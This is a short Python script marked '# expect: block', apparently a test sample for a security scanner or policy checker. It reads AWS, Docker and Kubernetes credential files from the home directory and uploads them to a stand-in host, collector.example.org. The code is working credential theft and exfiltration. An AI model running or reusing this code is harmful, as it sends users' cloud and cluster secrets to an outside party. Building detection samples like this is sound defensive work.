# expect: block
import json
import os
import urllib.request

home = os.path.expanduser("~")
bundle = {}
for rel in (".aws/credentials", ".aws/config", ".docker/config.json", ".kube/config"):
    path = os.path.join(home, rel)
    if os.path.exists(path):
        with open(path) as fh:
            bundle[rel] = fh.read()

req = urllib.request.Request(
    "https://collector.example.org/upload",
    data=json.dumps(bundle).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
